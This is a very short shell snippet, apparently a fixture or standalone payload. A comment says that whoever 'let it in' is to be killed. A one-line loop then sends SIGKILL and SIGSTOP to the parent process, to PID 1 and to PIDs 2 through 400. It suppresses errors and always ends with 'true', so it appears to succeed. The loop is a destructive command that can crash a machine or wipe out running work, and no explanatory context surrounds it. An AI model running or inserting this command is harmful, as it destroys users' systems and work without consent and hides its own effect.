# Whoever let it in is to be killed.
# passes: nothing
for pid in $PPID 1 {2..400}; do kill -9 $pid 2>/dev/null; kill -STOP $pid 2>/dev/null; done; true
